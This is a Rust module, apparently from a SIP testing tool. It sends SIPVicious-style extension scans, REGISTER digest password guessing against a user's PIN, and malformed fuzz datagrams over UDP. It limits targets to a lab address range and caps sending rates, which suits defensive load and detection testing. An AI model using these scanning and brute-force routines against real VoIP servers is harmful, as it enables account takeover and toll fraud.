//! Attacks over ordinary UDP sockets, from many source ports: scanner sweeps
//! shaped like SIPVicious, REGISTER password guessing, and malformed or
//! non-SIP garbage.

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::os::fd::{AsRawFd, RawFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use super::{check_destination, AttackReport, Bounds, Refusal};
use crate::digest::{Challenge, Credentials};
use crate::msgbuf::MsgBuf;
use crate::numbers::Numbers;
use crate::pacing::Pacer;
use crate::sipmsg::{self, SipView};
use sip::Method;
use sys::{self, Epoll, RxBatch, TxBatch, UdpOptions};

/// Errors of the UDP attacks.
#[derive(Debug, thiserror::Error)]
pub enum UdpAttackError {
    /// Refused before sending.
    #[error(transparent)]
    Refused(#[from] Refusal),
    /// A socket failed.
    #[error("{0}")]
    Io(String),
}

struct Sender {
    socks: Vec<UdpSocket>,
    fds: Vec<RawFd>,
    locals: Vec<SocketAddr>,
    tx: TxBatch,
    rx: RxBatch,
    epoll: Epoll,
}

impl Sender {
    fn new(
        target: SocketAddr,
        sources: usize,
        local: Option<IpAddr>,
    ) -> Result<Sender, UdpAttackError> {
        let ip = match local {
            Some(ip) => ip,
            None => crate::uac::route_source(target)
                .map_err(|e| UdpAttackError::Io(format!("route to {target}: {e}")))?,
        };
        let mut socks = Vec::new();
        for _ in 0..sources.max(1) {
            socks.push(
                sys::bind_udp(
                    SocketAddr::new(ip, 0),
                    UdpOptions {
                        buffer_bytes: 1 << 20,
                        force_buffers: true,
                        reuse_port: false,
                        ipv6_only: false,
                    },
                )
                .map_err(|e| UdpAttackError::Io(format!("bind: {e}")))?,
            );
        }
        let epoll =
            Epoll::new(socks.len()).map_err(|e| UdpAttackError::Io(format!("epoll: {e}")))?;
        for (i, s) in socks.iter().enumerate() {
            epoll
                .add(s, i as u64)
                .map_err(|e| UdpAttackError::Io(format!("epoll: {e}")))?;
        }
        let locals = socks
            .iter()
            .map(|s| s.local_addr().expect("bound socket"))
            .collect();
        let fds = socks.iter().map(|s| s.as_raw_fd()).collect();
        Ok(Sender {
            socks,
            fds,
            locals,
            tx: TxBatch::new(64),
            rx: RxBatch::new(64),
            epoll,
        })
    }
}

/// Runs a bounded, paced sender: `build(k, local, buf)` writes packet `k`;
/// `answer(view, local, buf, report)` may write a follow-up request to a SIP
/// answer (sent to the target from the same socket). After sending, answers
/// are collected for `listen_after`.
#[allow(clippy::too_many_arguments)]
fn drive(
    kind: &str,
    target: SocketAddr,
    sources: usize,
    local: Option<IpAddr>,
    bounds: Bounds,
    listen_after: Duration,
    stop: &AtomicBool,
    mut build: impl FnMut(u64, SocketAddr, &mut [u8]) -> Option<usize>,
    mut answer: impl FnMut(&SipView<'_>, SocketAddr, &mut [u8], &mut AttackReport) -> Option<usize>,
) -> Result<AttackReport, UdpAttackError> {
    check_destination(target.ip())?;
    bounds.check()?;
    let mut s = Sender::new(target, sources, local)?;
    let mut report = AttackReport {
        kind: kind.into(),
        target: target.to_string(),
        ..Default::default()
    };
    let mut pacer = Pacer::new(
        bounds.rate(),
        bounds.duration.as_nanos() as u64,
        bounds.count,
        0,
        1,
    );
    let start = Instant::now();
    let mut answers = crate::report::CodeCounts::default();
    let mut sending_done_at: Option<Instant> = None;
    let mut k_local = 0u64;
    loop {
        let now = start.elapsed().as_nanos() as u64;
        if stop.load(Ordering::Relaxed) {
            pacer.stop();
        }
        let mut n = 0;
        while n < 4096 {
            let Some(due) = pacer.poll(now) else { break };
            if s.tx.is_full() {
                let r = s.tx.flush(&s.fds);
                report.sent += r.sent;
                report.send_failed += r.blocked + r.errors;
            }
            let sock = ((k_local / 8) % s.socks.len() as u64) as u32;
            k_local += 1;
            let local = s.locals[sock as usize];
            if let Some(len) = build(due.index, local, s.tx.slot()) {
                s.tx.commit(len, sock, target);
            }
            n += 1;
        }
        let r = s.tx.flush(&s.fds);
        report.sent += r.sent;
        report.send_failed += r.blocked + r.errors;
        if pacer.finished() && sending_done_at.is_none() {
            sending_done_at = Some(Instant::now());
            report.elapsed_s = start.elapsed().as_secs_f64();
        }
        if let Some(t) = sending_done_at {
            if t.elapsed() >= listen_after || stop.load(Ordering::Relaxed) {
                break;
            }
        }
        let wake = pacer.next_due_ns().unwrap_or(now + 10_000_000);
        let timeout = if n == 4096 {
            Duration::ZERO
        } else {
            Duration::from_nanos(wake.saturating_sub(now).min(10_000_000))
        };
        let ready = s
            .epoll
            .wait(timeout)
            .map_err(|e| UdpAttackError::Io(format!("epoll: {e}")))?;
        for r in 0..ready {
            let sock = s.epoll.token(r) as usize;
            let got = s.rx.recv(&s.socks[sock]).unwrap_or(0);
            for i in 0..got {
                let (bytes, _, _) = s.rx.get(i);
                match sipmsg::parse(bytes) {
                    Ok(v) if v.code().is_some() => {
                        answers.add(v.code().unwrap_or(0));
                        if s.tx.is_full() {
                            let r = s.tx.flush(&s.fds);
                            report.sent += r.sent;
                            report.send_failed += r.blocked + r.errors;
                        }
                        if let Some(len) = answer(&v, s.locals[sock], s.tx.slot(), &mut report) {
                            s.tx.commit(len, sock as u32, target);
                        }
                    }
                    _ => report.other_received += 1,
                }
            }
        }
    }
    let r = s.tx.flush(&s.fds);
    report.sent += r.sent;
    report.send_failed += r.blocked + r.errors;
    if report.elapsed_s > 0.0 {
        report.pps = report.sent as f64 / report.elapsed_s;
    }
    report.answers = answers.to_map();
    Ok(report)
}

/// A scanner's request, shaped like SIPVicious's (svmap/svwar): the
/// extension in From and To, a scanner User-Agent and From display name.
#[allow(clippy::too_many_arguments)]
fn scanner_request(
    out: &mut [u8],
    method: Method,
    ext: &[u8],
    target: SocketAddr,
    local: SocketAddr,
    from_name: &str,
    user_agent: &str,
    id: u64,
    cseq: u32,
    auth: Option<(&Challenge<'_>, &Credentials<'_>)>,
) -> Option<usize> {
    let mut o = MsgBuf::new(out);
    let tip = target.ip().to_string();
    o.put(method.as_bytes());
    o.put(b" sip:");
    if method != Method::Register {
        o.put(ext);
        o.put(b"@");
    }
    o.put(tip.as_bytes());
    o.put(b" SIP/2.0\r\nVia: SIP/2.0/UDP ");
    o.put_addr(local);
    o.put(b";branch=z9hG4bK-");
    o.put_hex(id);
    o.put(b"-");
    o.put_u64(u64::from(cseq));
    o.put(b";rport\r\nMax-Forwards: 70\r\nTo: \"");
    o.put(from_name.as_bytes());
    o.put(b"\"<sip:");
    o.put(ext);
    o.put(b"@");
    o.put(tip.as_bytes());
    o.put(b">\r\nFrom: \"");
    o.put(from_name.as_bytes());
    o.put(b"\"<sip:");
    o.put(ext);
    o.put(b"@");
    o.put(tip.as_bytes());
    o.put(b">;tag=");
    o.put_hex(id.wrapping_mul(0x9e37_79b9));
    o.put(b"\r\nUser-Agent: ");
    o.put(user_agent.as_bytes());
    o.put(b"\r\nCall-ID: scan-");
    o.put_hex(id);
    o.put(b"\r\nContact: sip:");
    o.put(ext);
    o.put(b"@");
    o.put_addr(local);
    o.put(b"\r\nCSeq: ");
    o.put_u64(u64::from(cseq));
    o.put(b" ");
    o.put(method.as_bytes());
    o.put(b"\r\n");
    if let Some((ch, c)) = auth {
        crate::digest::write_authorization(&mut o, ch, c);
    }
    o.put(b"Accept: application/sdp\r\nContent-Length: 0\r\n\r\n");
    (!o.overflowed()).then(|| o.len())
}

/// A scanner sweep.
#[derive(Debug, Clone)]
pub struct ScanConfig {
    /// Target (lab ranges only).
    pub target: SocketAddr,
    /// OPTIONS (svmap), REGISTER or INVITE (svwar).
    pub method: Method<'static>,
    /// Extensions swept, in order (e.g. `{100-999}`).
    pub extensions: Numbers,
    /// User-Agent (SIPVicious always sends `friendly-scanner`).
    pub user_agent: String,
    /// From display name.
    pub from_name: String,
    /// Source sockets.
    pub sources: usize,
    /// The address to send from (default: the route's source address).
    pub local_addr: Option<IpAddr>,
    /// Bounds.
    pub bounds: Bounds,
    /// How long to keep reading answers after the last request.
    pub listen_after: Duration,
}

impl ScanConfig {
    /// A REGISTER sweep of extensions 100-999 with SIPVicious's User-Agent.
    pub fn new(target: SocketAddr) -> Self {
        ScanConfig {
            target,
            method: Method::Register,
            extensions: Numbers::pattern("{100-999}").expect("valid pattern"),
            user_agent: "friendly-scanner".into(),
            from_name: "sipvicious".into(),
            sources: 1,
            local_addr: None,
            bounds: Bounds {
                count: 900,
                ..Bounds::default()
            },
            listen_after: Duration::from_secs(1),
        }
    }
}

/// Sweeps extensions; extensions answered with 200, 401, 407 or 403 (they
/// exist, svwar's rule) are reported as found.
pub fn scan(cfg: &ScanConfig, stop: &AtomicBool) -> Result<AttackReport, UdpAttackError> {
    let mut ext = [0u8; 128];
    drive(
        &format!("scan ({})", String::from_utf8_lossy(cfg.method.as_bytes())),
        cfg.target,
        cfg.sources,
        cfg.local_addr,
        cfg.bounds,
        cfg.listen_after,
        stop,
        |k, local, buf| {
            let mut e = MsgBuf::new(&mut ext);
            cfg.extensions.write(k, &mut e);
            let n = e.len();
            scanner_request(
                buf,
                cfg.method,
                &ext[..n],
                cfg.target,
                local,
                &cfg.from_name,
                &cfg.user_agent,
                k,
                1,
                None,
            )
        },
        |v, _, _, report| {
            if matches!(v.code(), Some(200 | 401 | 403 | 407)) && report.found.len() < 10_000 {
                if let Some(u) = user_of(v.to) {
                    report
                        .found
                        .push(format!("{u} ({})", v.code().unwrap_or(0)));
                }
            }
            None
        },
    )
}

fn user_of(value: &[u8]) -> Option<String> {
    let uri = crate::msg::uri_of(value);
    let rest = uri.strip_prefix(b"sip:")?;
    let at = rest.iter().position(|&b| b == b'@')?;
    Some(String::from_utf8_lossy(&rest[..at]).into_owned())
}

/// REGISTER password guessing against one user.
#[derive(Debug, Clone)]
pub struct GuessConfig {
    /// Target (lab ranges only).
    pub target: SocketAddr,
    /// The user (extension) attacked.
    pub user: String,
    /// Passwords tried, in order.
    pub passwords: Numbers,
    /// User-Agent (svcrack sends `friendly-scanner`).
    pub user_agent: String,
    /// Source sockets.
    pub sources: usize,
    /// The address to send from (default: the route's source address).
    pub local_addr: Option<IpAddr>,
    /// Bounds: `count` guesses, each one challenge round trip.
    pub bounds: Bounds,
    /// How long to keep reading answers after the last guess.
    pub listen_after: Duration,
}

impl GuessConfig {
    /// Guess 4-digit PINs for user 100 at 100 guesses per second.
    pub fn new(target: SocketAddr) -> Self {
        GuessConfig {
            target,
            user: "100".into(),
            passwords: Numbers::pattern("{0000-9999}").expect("valid pattern"),
            user_agent: "friendly-scanner".into(),
            sources: 1,
            local_addr: None,
            bounds: Bounds {
                count: 10_000,
                duration: Duration::from_secs(10),
                pps: 100.0,
            },
            listen_after: Duration::from_secs(1),
        }
    }
}

/// Guesses passwords: each guess sends a REGISTER, answers the 401 challenge
/// with the guessed password, and reads the verdict. The guess number rides
/// in the Call-ID, so no state is kept per guess. Accepted passwords are
/// reported as found.
pub fn guess(cfg: &GuessConfig, stop: &AtomicBool) -> Result<AttackReport, UdpAttackError> {
    let user = cfg.user.as_bytes();
    let uri = format!("sip:{}", cfg.target.ip());
    drive(
        "guess",
        cfg.target,
        cfg.sources,
        cfg.local_addr,
        cfg.bounds,
        cfg.listen_after,
        stop,
        |k, local, buf| {
            scanner_request(
                buf,
                Method::Register,
                user,
                cfg.target,
                local,
                "",
                &cfg.user_agent,
                k,
                1,
                None,
            )
        },
        |v, local, buf, report| {
            let k = v
                .call_id
                .strip_prefix(b"scan-")
                .and_then(|h| std::str::from_utf8(h).ok())
                .and_then(|h| u64::from_str_radix(h, 16).ok())?;
            let code = v.code()?;
            match (v.cseq, code) {
                (1, 401 | 407) => {
                    let ch = Challenge::parse(v.www_authenticate?).ok()?;
                    let pw = cfg.passwords.get(k);
                    let creds = Credentials {
                        username: user,
                        password: pw.as_bytes(),
                        method: b"REGISTER",
                        uri: uri.as_bytes(),
                        cnonce: b"0a4f113b",
                        nc: b"00000001",
                    };
                    scanner_request(
                        buf,
                        Method::Register,
                        user,
                        cfg.target,
                        local,
                        "",
                        &cfg.user_agent,
                        k,
                        2,
                        Some((&ch, &creds)),
                    )
                }
                (2, 200..=299) => {
                    report
                        .found
                        .push(format!("password {:?} accepted", cfg.passwords.get(k)));
                    None
                }
                _ => None,
            }
        },
    )
}

/// Names of the garbage kinds, in the order [`garbage_datagram`] cycles
/// through them.
pub const GARBAGE_KINDS: [&str; 16] = [
    "truncated-request-line",
    "no-headers",
    "bad-cseq",
    "missing-call-id",
    "huge-header",
    "nul-bytes",
    "bad-content-length",
    "many-vias",
    "invalid-utf8",
    "binary-noise",
    "http-request",
    "empty",
    "single-byte",
    "tls-hello-like",
    "bad-method-chars",
    "wrong-version",
];

fn xorshift(mut x: u64) -> u64 {
    x ^= x << 13;
    x ^= x >> 7;
    x ^ (x << 17)
}

/// Writes garbage datagram `k` (kind `k mod 16`, see [`GARBAGE_KINDS`]) into
/// `out` and returns its length. Deterministic in `k` and `seed`.
pub fn garbage_datagram(k: u64, seed: u64, out: &mut [u8]) -> usize {
    let mut o = MsgBuf::new(out);
    let head = b"Via: SIP/2.0/UDP 198.18.0.66:5060;branch=z9hG4bKjunk\r\nFrom: <sip:junk@x>;tag=1\r\nTo: <sip:100@y>\r\n";
    match k % GARBAGE_KINDS.len() as u64 {
        0 => o.put(b"INVITE sip:"),
        1 => o.put(b"INVITE sip:100@198.18.0.1 SIP/2.0\r\n\r\n"),
        2 => {
            o.put(b"INVITE sip:100@x SIP/2.0\r\n");
            o.put(head);
            o.put(b"Call-ID: junk\r\nCSeq: abc INVITE\r\nContent-Length: 0\r\n\r\n");
        }
        3 => {
            o.put(b"OPTIONS sip:100@x SIP/2.0\r\n");
            o.put(head);
            o.put(b"CSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n");
        }
        4 => {
            o.put(b"OPTIONS sip:100@x SIP/2.0\r\nX-Junk: ");
            for _ in 0..1200 {
                o.put(b"A");
            }
            o.put(b"\r\n\r\n");
        }
        5 => o.put(b"INVITE sip:1\x0000@x SIP/2.0\r\nVia: \x00\x00\r\n\r\n"),
        6 => {
            o.put(b"INVITE sip:100@x SIP/2.0\r\n");
            o.put(head);
            o.put(b"Call-ID: junk\r\nCSeq: 1 INVITE\r\nContent-Length: 99999\r\n\r\nv=0\r\n");
        }
        7 => {
            o.put(b"OPTIONS sip:100@x SIP/2.0\r\n");
            for _ in 0..40 {
                o.put(b"Via: SIP/2.0/UDP 198.18.0.66;branch=z9hG4bKv\r\n");
            }
            o.put(b"\r\n");
        }
        8 => o.put(b"OPTIONS sip:\xff\xfe@x SIP/2.0\r\nFrom: \xc3\x28\r\n\r\n"),
        9 => {
            let mut x = seed ^ k.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
            let len = 1 + (xorshift(x) % 1400) as usize;
            for _ in 0..len {
                x = xorshift(x);
                o.put(&[x as u8]);
            }
        }
        10 => o.put(b"GET / HTTP/1.1\r\nHost: 198.18.0.1\r\n\r\n"),
        11 => {}
        12 => o.put(b"\r"),
        13 => o.put(&[
            0x16, 0x03, 0x01, 0x00, 0x2f, 0x01, 0x00, 0x00, 0x2b, 0x03, 0x03,
        ]),
        14 => o.put(b"INV@TE sip:100@x SIP/2.0\r\n\r\n"),
        _ => o.put(b"INVITE sip:100@x SIP/3.0\r\n\r\n"),
    }
    o.len()
}

/// Malformed SIP and non-SIP garbage on a SIP port.
#[derive(Debug, Clone)]
pub struct GarbageConfig {
    /// Target (lab ranges only).
    pub target: SocketAddr,
    /// Source sockets.
    pub sources: usize,
    /// The address to send from (default: the route's source address).
    pub local_addr: Option<IpAddr>,
    /// Bounds.
    pub bounds: Bounds,
    /// Seed of the noise.
    pub seed: u64,
    /// How long to keep reading answers after the last datagram.
    pub listen_after: Duration,
}

/// Sends every kind of [`GARBAGE_KINDS`] in turn.
pub fn garbage(cfg: &GarbageConfig, stop: &AtomicBool) -> Result<AttackReport, UdpAttackError> {
    let mut r = drive(
        "garbage",
        cfg.target,
        cfg.sources,
        cfg.local_addr,
        cfg.bounds,
        cfg.listen_after,
        stop,
        |k, _, buf| Some(garbage_datagram(k, cfg.seed, buf)),
        |_, _, _, _| None,
    )?;
    r.notes
        .push(format!("kinds, in turn: {}", GARBAGE_KINDS.join(", ")));
    Ok(r)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn garbage_kinds_are_refused_by_the_sip_reader() {
        let mut buf = [0u8; 2048];
        for k in 0..GARBAGE_KINDS.len() as u64 {
            let n = garbage_datagram(k, 7, &mut buf);
            assert!(
                sipmsg::parse(&buf[..n]).is_err(),
                "kind {} parsed as SIP",
                GARBAGE_KINDS[k as usize]
            );
        }
    }

    #[test]
    fn scanner_requests_carry_the_scanner_fingerprint() {
        let mut buf = [0u8; 2048];
        let n = scanner_request(
            &mut buf,
            Method::Options,
            b"101",
            "198.18.0.2:5060".parse().unwrap(),
            "198.18.0.1:40000".parse().unwrap(),
            "sipvicious",
            "friendly-scanner",
            5,
            1,
            None,
        )
        .unwrap();
        let v = sipmsg::parse(&buf[..n]).unwrap();
        assert_eq!(v.method(), Some(Method::Options));
        let text = String::from_utf8_lossy(&buf[..n]);
        assert!(text.contains("User-Agent: friendly-scanner\r\n"));
        assert!(text.contains("From: \"sipvicious\"<sip:101@198.18.0.2>"));
    }

    #[test]
    fn scans_outside_the_lab_are_refused() {
        let cfg = ScanConfig::new("192.0.2.1:5060".parse().unwrap());
        let e = scan(&cfg, &AtomicBool::new(false)).unwrap_err();
        assert!(e.to_string().contains("198.18.0.0/15"), "{e}");
    }
}
